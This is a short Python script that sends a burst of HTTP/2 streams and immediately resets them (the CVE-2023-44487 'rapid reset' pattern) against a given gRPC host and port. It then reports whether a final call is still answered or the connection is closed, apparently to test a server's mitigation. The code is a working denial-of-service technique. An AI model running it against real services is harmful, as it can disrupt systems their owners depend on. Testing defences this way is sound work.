"""Opens streams only to reset them (CVE-2023-44487), all in one write, and then makes a call.

Usage: resets.py HOST:PORT STREAMS
Each stream is a whole call. Prints "answered" if the call at the end was, "closed" if the connection was before.
"""

import socket
import sys

import h2.config
import h2.connection
import h2.errors
import h2.events

GET = "/ticketing.CustomerController/GetCustomer"
EMPTY_MESSAGE = bytes(5)


def call(connection, address):
    stream = connection.get_next_available_stream_id()
    headers = {":method": "POST", ":scheme": "http", ":path": GET, ":authority": address, "content-type": "application/grpc", "te": "trailers"}
    connection.send_headers(stream, headers.items())
    connection.send_data(stream, EMPTY_MESSAGE, end_stream=True)
    return stream


def is_answered(connection, stream, wire):
    try:
        while data := wire.recv(65536):
            for event in connection.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return False
                if isinstance(event, h2.events.TrailersReceived) and event.stream_id == stream:
                    return True
            wire.sendall(connection.data_to_send())
    except ConnectionError:
        pass
    return False


address, streams = sys.argv[1], int(sys.argv[2])
host, port = address.rsplit(":", 1)
wire = socket.create_connection((host, int(port)), timeout=10)
connection = h2.connection.H2Connection(h2.config.H2Configuration())
connection.initiate_connection()
for _ in range(streams):
    connection.reset_stream(call(connection, address), h2.errors.ErrorCodes.CANCEL)
last = call(connection, address)
try:
    wire.sendall(connection.data_to_send())
    print("answered" if is_answered(connection, last, wire) else "closed")
except ConnectionError:
    print("closed")
